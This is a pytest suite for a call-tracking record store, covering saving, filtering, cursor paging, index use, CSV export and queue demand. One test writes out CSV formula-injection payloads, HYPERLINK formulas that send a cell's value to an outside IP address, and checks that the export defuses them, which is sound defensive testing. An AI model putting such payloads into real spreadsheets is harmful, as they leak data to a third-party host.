"""Call-tracking records: what was saved comes back, found by every filter, page by page, and as CSV."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import UTC, datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import text

from ctid.errors import RequestError
from ctid.model.customer import Customer
from ctid.model.instant import Instant
from ctid.model.record import ContactRecord, LastCall, RecordFilter
from ctid.model.states import Outcome
from ctid.staffing.history import QUARTER_MS, Bucket
from ctid.store.csv_export import HEADER
from ctid.store.database import Database
from ctid.store.records import ALL, RecordStore, page_query
from tests.store.sample_records import NOON, abandoned_record, flow_record, sample_record

pytestmark = pytest.mark.store


@pytest.fixture
def store(database: Database) -> RecordStore:
    return RecordStore(database)


async def all_ids(store: RecordStore, which: RecordFilter = ALL, limit: int = 3) -> list[str]:
    """Go through all pages; what they hold must be what is counted."""
    ids: list[str] = []
    cursor = None
    while True:
        page = await store.find(which, limit=limit, cursor=cursor)
        assert len(page.records) <= limit
        ids += [record.contact_id for record in page.records]
        cursor = page.next_cursor
        if cursor is None:
            assert len(ids) == await store.count(which)
            return ids
        assert len(page.records) == limit


@pytest.mark.parametrize("record", [sample_record(1), abandoned_record(2)])
async def test_a_record_comes_back_as_it_was_saved(store: RecordStore, record: ContactRecord) -> None:
    assert await store.get(record.contact_id) is None
    await store.save(record)
    assert await store.get(record.contact_id) == record
    assert (await store.find()).records == [record]


async def test_saving_again_replaces_and_never_doubles(store: RecordStore) -> None:
    await store.save(sample_record(1))
    await store.save(sample_record(1))
    changed = abandoned_record(1)
    await store.save(changed)
    assert await store.get(changed.contact_id) == changed
    await store.save_many([sample_record(1), sample_record(2), sample_record(1, notes="last")])
    await store.save_many([])
    assert await store.count() == 2
    last = await store.get("c-000001")
    assert last is not None
    assert last.notes == "last"


async def test_saving_the_same_record_many_times_at_once(store: RecordStore) -> None:
    await asyncio.gather(*(store.save(sample_record(number % 5)) for number in range(40)))
    assert await store.count() == 5


async def test_a_batch_is_saved_as_a_whole_or_not_at_all(store: RecordStore) -> None:
    with pytest.raises(Exception, match=r"NotNull|NOT NULL"):
        await store.save_many([sample_record(1), sample_record(2, site=None)])
    assert await store.count() == 0


async def test_what_a_database_cannot_hold_does_not_stick_for_ever(store: RecordStore) -> None:
    odd = sample_record(1, notes="a\x00b", ani="\udcff1", attributes={"k\x00": "\ud83d", "\\u0000": "fine 😀"})
    await store.save(odd)
    saved = await store.get(odd.contact_id)
    assert saved is not None
    assert saved.notes == "a\ufffdb"
    assert saved.ani == "\ufffd1"
    assert saved.attributes == {"k\ufffd": "\ufffd", "\\u0000": "fine 😀"}
    assert await store.get("\x00") is None
    assert await store.get("\udcff") is None
    for field in ("ani", "queue", "customer_id"):
        assert await store.count(RecordFilter(**{field: "\x00\udcff"})) == 0


async def test_every_filter_finds_its_own_and_filters_add_up(store: RecordStore) -> None:
    others = {
        "queue": "support",
        "agent_id": "1002",
        "outcome": Outcome.TRANSFERRED,
        "disposition": "lost",
        "ani": "+4930901821",
        "dnis": "4930200",
    }
    await store.save_many([sample_record(number) for number in range(3)])
    for number, (field, value) in enumerate(others.items(), start=10):
        await store.save(sample_record(number, **{field: value}))
    await store.save(sample_record(20, customer=Customer(id="8", name="Bob")))
    await store.save(abandoned_record(21))
    for number, (field, value) in enumerate(others.items(), start=10):
        assert await all_ids(store, RecordFilter(**{field: value})) == [f"c-{number:06}"]
    assert await all_ids(store, RecordFilter(customer_id="8")) == ["c-000020"]
    for field in ("queue", "agent_id", "disposition", "ani", "customer_id"):
        assert await all_ids(store, RecordFilter(**{field: ""})) == ["c-000021"]
    assert await all_ids(store, RecordFilter(queue="sales", agent_id="1002")) == ["c-000011"]
    assert await all_ids(store, RecordFilter(queue="support", agent_id="1002")) == []


async def test_moments_are_compared_whatever_their_zone(store: RecordStore) -> None:
    await store.save_many([sample_record(number) for number in range(5)])
    noon = datetime(2025, 3, 29, 12, tzinfo=UTC)
    assert noon.timestamp() * 1000 == NOON
    for zone in (UTC, timezone(timedelta(hours=5, minutes=30)), ZoneInfo("America/New_York")):
        first = (noon + timedelta(seconds=1)).astimezone(zone)
        end = (noon + timedelta(seconds=3)).astimezone(zone)
        assert await all_ids(store, RecordFilter(created_from=first, created_to=end)) == ["c-000002", "c-000001"]
    just_after = noon + timedelta(seconds=1, microseconds=1)
    assert await store.count(RecordFilter(created_from=just_after)) == 3
    assert await store.count(RecordFilter(created_to=just_after)) == 2
    for field in ("created_from", "created_to"):
        with pytest.raises(RequestError, match="without a zone"):
            RecordFilter(**{field: datetime(2025, 3, 29, 12)})


async def test_both_hours_of_the_autumn_night_are_told_apart(store: RecordStore) -> None:
    berlin = ZoneInfo("Europe/Berlin")
    summer = datetime(2025, 10, 26, 2, 30, tzinfo=berlin, fold=0)
    winter = datetime(2025, 10, 26, 2, 30, tzinfo=berlin, fold=1)
    for name, moment in (("summer", summer), ("winter", winter)):
        seconds = int(moment.timestamp()) - NOON // 1000
        await store.save(sample_record(seconds, contact_id=name))
    assert await all_ids(store, RecordFilter(created_from=summer, created_to=winter)) == ["summer"]
    assert await all_ids(store, RecordFilter(created_from=winter)) == ["winter"]


async def test_paging_is_newest_first_and_is_moved_by_nothing_that_comes_in(store: RecordStore) -> None:
    at = sample_record(0).created_at
    # Many of the same millisecond, so that the contact id has to decide.
    batch = [sample_record(number, created_at=at) for number in range(7)]
    batch += [sample_record(number) for number in range(100, 105)]
    await store.save_many(batch)
    expected = [f"c-{number:06}" for number in (104, 103, 102, 101, 100, 6, 5, 4, 3, 2, 1, 0)]
    for limit in (1, 2, 3, 5, 11, 12, 13):
        assert await all_ids(store, limit=limit) == expected
    first = await store.find(limit=6)
    await store.save_many([sample_record(200), sample_record(102, notes="changed meanwhile")])
    rest = await store.find(limit=50, cursor=first.next_cursor)
    assert [record.contact_id for record in first.records + rest.records] == expected
    assert rest.next_cursor is None


async def test_a_limit_out_of_bounds_is_refused(store: RecordStore) -> None:
    for limit in (0, -1, 1_001):
        with pytest.raises(RequestError, match="limit is"):
            await store.find(limit=limit)
    assert (await store.find(limit=1_000)).records == []


async def test_a_foreign_cursor_is_refused(store: RecordStore) -> None:
    too_large = "Wzk5OTk5OTk5OTk5OTk5OTk5OTk5LCJ4Il0"
    for cursor in ("", "x", "%%%", "bnVsbA", "WzEsMl0", too_large, "ü", "W1tbW1tb" * 5_000):
        with pytest.raises(RequestError, match="cursor"):
            await store.find(cursor=cursor)


async def test_the_indexes_serve_every_filter_and_the_order(database: Database, store: RecordStore) -> None:
    rare = {
        "queue": "support",
        "agent_id": "1002",
        "outcome": Outcome.FAILED,
        "disposition": "lost",
        "ani": "+4930901821",
        "dnis": "4930200",
        "customer": Customer(id="8", name="Bob"),
    }
    await store.save_many([sample_record(number, **(rare if number % 300 == 7 else {})) for number in range(3_000)])
    async with database.begin() as connection:
        await connection.execute(text("ANALYZE"))
    filters = {
        "queue": RecordFilter(queue="support"),
        "agent_id": RecordFilter(agent_id="1002"),
        "outcome": RecordFilter(outcome=Outcome.FAILED),
        "disposition": RecordFilter(disposition="lost"),
        "ani": RecordFilter(ani="+4930901821"),
        "dnis": RecordFilter(dnis="4930200"),
        "customer_id": RecordFilter(customer_id="8"),
        "created_at": RecordFilter(created_from=datetime(2025, 3, 29, 12, 45, tzinfo=UTC)),
    }
    explain = "EXPLAIN QUERY PLAN " if database.dialect == "sqlite" else "EXPLAIN "
    for column, which in filters.items():
        for before in (None, (NOON + 2_000_000, "c-002000")):
            query = page_query(which, 50, before).compile(
                dialect=database._engine.dialect, compile_kwargs={"literal_binds": True}
            )
            async with database.read() as connection:
                rows = await connection.exec_driver_sql(explain + str(query))
                plan = "\n".join(str(row) for row in rows)
            assert f"ix_records_{column}" in plan, plan
            assert "TEMP B-TREE" not in plan, plan
            assert "Seq Scan" not in plan, plan
            assert "SCAN records'" not in plan, plan


async def export(store: RecordStore, which: RecordFilter = ALL) -> tuple[int, list[dict[str, str]], list[str]]:
    parts: list[str] = []

    async def write(part: str) -> None:
        parts.append(part)

    count = await store.export_csv(which, write)
    lines = list(csv.DictReader(io.StringIO("".join(parts), newline=""), strict=True))
    return count, lines, parts


async def test_csv_tells_the_way_through_flows(store: RecordStore) -> None:
    record = flow_record(0)
    await store.save(record)
    assert await store.get(record.contact_id) == record
    _, (line,), _ = await export(store)
    assert line["flows"] == "bank=left (9000 ms): hello=on (2000 ms), topic=key (7000 ms), away=left (0 ms)"
    assert line["path"].endswith("node:bank/topic > key:1=valid > node:bank/away > left:bank/away=left > queue:sales")


async def test_csv_holds_all_of_a_record(store: RecordStore) -> None:
    await store.save_many([sample_record(0), abandoned_record(1)])
    count, (abandoned, handled), parts = await export(store)
    assert count == 2
    assert parts[0] == ",".join(HEADER) + "\r\n"
    assert tuple(handled) == HEADER
    spans = json.loads(handled.pop("spans"))
    offers = json.loads(handled.pop("offers"))
    decisions = json.loads(handled.pop("decisions"))
    assert handled == {
        "contact_id": "c-000000",
        "site": "berlin",
        "channel": "voice",
        "ani": "'+4930901820",
        "dnis": "4930100",
        "entry": "main",
        "customer_id": "7",
        "customer_name": "Ada Lovelace",
        "customer_tier": "gold",
        "customer_language": "en",
        "queue": "sales",
        "agent_id": "1001",
        "outcome": "handled",
        "disposition": "sold",
        "notes": "wants two,\n“blue” ones; 中文",
        "created_at": "2025-03-29T12:00:00.000Z",
        "queued_at": "2025-03-29T12:00:03.000Z",
        "connected_at": "2025-03-29T12:00:07.000Z",
        "ended_at": "2025-03-29T12:01:07.000Z",
        "closed_at": "2025-03-29T12:01:10.000Z",
        "wait_ms": "4000",
        "talk_ms": "60000",
        "wrap_up_ms": "3000",
        "path": "entry:main=open > menu:welcome > key:1 > queue:sales",
        "attributes": '{"a":"2","z":"1"}',
        "disposition_missing": "false",
        "direction": "inbound",
        "cause": "",
        "flows": "",
    }
    assert [(each["agent_id"], each["fit"], each["by"]) for each in decisions] == [("1001", -8 << 80, "fit")]
    assert spans == [
        {"state": "created", "at": "2025-03-29T12:00:00.000Z", "duration_ms": 3000},
        {"state": "queued", "at": "2025-03-29T12:00:03.000Z", "duration_ms": 4000, "queue": "sales"},
        {
            "state": "connected",
            "at": "2025-03-29T12:00:07.000Z",
            "duration_ms": 60000,
            "queue": "sales",
            "agent_id": "1001",
        },
    ]
    assert offers == [
        {
            "offer_id": "o-1",
            "agent_id": "1001",
            "at": "2025-03-29T12:00:03.000Z",
            "rang_ms": 4000,
            "state": "accepted",
        }
    ]
    assert abandoned["queued_at"] == abandoned["customer_name"] == abandoned["path"] == ""
    assert abandoned["outcome"] == "abandoned"


async def test_csv_holds_no_formulas(store: RecordStore) -> None:
    starts = ["=", "+", "-", "@", "\t", "\r"]
    fields = ("site", "ani", "dnis", "entry", "queue", "agent_id", "disposition", "notes")
    formulas = [f'{start}HYPERLINK("http://203.0.113.1/?"&A1,"x")' for start in starts]
    for formula in formulas:
        customer = Customer(id=formula, name=formula, tier=formula, language=formula)
        await store.save(sample_record(1, contact_id=formula, customer=customer, **dict.fromkeys(fields, formula)))
    _, lines, _ = await export(store)
    assert {line["notes"] for line in lines} == {f"'{formula}" for formula in formulas}
    for line in lines:
        assert not [cell for cell in line.values() if cell.startswith(tuple(starts))]


async def test_csv_streams_what_the_filter_lets_through(store: RecordStore) -> None:
    await store.save_many([sample_record(number, queue=f"q{number % 2}") for number in range(1_201)])
    count, lines, parts = await export(store, RecordFilter(queue="q0"))
    assert count == len(lines) == 601
    assert [line["contact_id"] for line in lines] == [f"c-{number:06}" for number in range(1_200, -1, -2)]
    assert len(parts) == 3
    count, lines, parts = await export(store, RecordFilter(queue="none"))
    assert (count, lines, len(parts)) == (0, [], 1)


async def test_demand_counts_what_came_into_a_queue_by_quarters(store: RecordStore) -> None:
    quarter = 15 * 60
    left = {"queue": "sales", "queued_at": Instant(0, NOON + (quarter + 5) * 1_000), "wait_ms": 7_000}
    await store.save_many(
        [
            sample_record(0),
            sample_record(quarter - 4),
            # Queued three seconds after its arrival: in the next quarter already.
            sample_record(quarter - 3),
            abandoned_record(quarter + 2, **left),
            abandoned_record(quarter + 3, **left, outcome=Outcome.SHORT_ABANDON),
            sample_record(quarter + 5, queue="support"),
            abandoned_record(quarter + 6, queue="sales"),
            sample_record(3 * quarter - 3),
        ]
    )
    noon = datetime.fromtimestamp(NOON / 1000, UTC)
    served = {"handling_ms": 63_000, "waited_ms": 4_000, "abandoned": 0}
    first = Bucket(start_ms=NOON, calls=2, served=2, abandoned=0, handling_ms=126_000, waited_ms=8_000)
    second = Bucket(start_ms=NOON + QUARTER_MS, calls=3, served=1, abandoned=2, handling_ms=63_000, waited_ms=18_000)
    last = Bucket(start_ms=NOON + 3 * QUARTER_MS, calls=1, served=1, **served)
    assert await store.demand("sales", noon, noon + timedelta(hours=1)) == [first, second, last]
    assert await store.demand("sales", noon + timedelta(minutes=15), noon + timedelta(minutes=45)) == [second]
    assert await store.demand("nobody", noon, noon + timedelta(hours=1)) == []


async def test_the_last_call_is_the_newest_that_an_agent_handled(store: RecordStore) -> None:
    ani = sample_record(0).ani
    await store.save_many(
        [
            sample_record(0, agent_id="alice", queue="sales"),
            sample_record(1, agent_id="bob", queue="support"),
            sample_record(2, agent_id="carol", outcome=Outcome.FAILED),
            sample_record(3, agent_id="", outcome=Outcome.HANDLED),
            sample_record(4, agent_id="dora", ani="+4930999"),
        ]
    )
    assert await store.last_call(ani) == LastCall(agent_id="bob", queue="support")
    assert await store.last_call("+49000") is None
